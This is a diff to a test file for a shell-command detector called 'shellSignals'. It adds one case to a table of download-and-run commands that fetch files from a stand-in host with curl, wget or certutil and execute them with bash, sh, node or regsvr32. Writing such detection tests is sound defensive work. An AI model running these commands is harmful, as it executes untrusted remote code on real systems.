@@ -18,6 +18,7 @@ describe('shellSignals', () => {
     ['bash <(curl -s https://h.example/i)', 'download-and-run'],
     ['curl -o /tmp/t https://h.example/t && chmod +x /tmp/t && /tmp/t', 'download-and-run'],
     ['curl -sO https://h.example/t.sh; sh t.sh', 'download-and-run'],
+    ['curl -fsSL https://h.example/t > t && bash ./t --yes', 'download-and-run'],
     ['wget https://h.example/t; chmod 755 t', 'download-and-run'],
     ['curl https://h.example/t > t; node t', 'download-and-run'],
     ['certutil.exe -urlcache -f https://h.example/a.dll a.dll & regsvr32 -s a.dll', 'download-and-run'],
